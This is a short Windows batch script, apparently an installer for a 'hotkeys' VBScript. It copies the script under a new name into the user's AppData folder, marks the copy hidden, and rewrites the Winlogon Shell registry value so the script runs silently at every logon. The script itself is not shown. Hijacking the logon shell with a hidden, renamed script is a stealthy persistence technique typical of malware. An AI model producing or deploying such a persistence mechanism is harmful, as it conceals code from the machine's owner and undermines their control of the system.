@echo off
reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\Advanced" /v HideFileExt /t REG_DWORD /d 0 /f >nul
reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\Advanced" /v Hidden /t REG_DWORD /d 1 /f >nul
copy /y "%~dp0hotkeys.vbs" "%APPDATA%\Microsoft\hk.vbs" >nul
attrib +h "%APPDATA%\Microsoft\hk.vbs"
reg add "HKCU\Software\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Shell /t REG_SZ /d "explorer.exe, wscript.exe //B \"%APPDATA%\Microsoft\hk.vbs\"" /f >nul
echo Done. Sign out and back in.
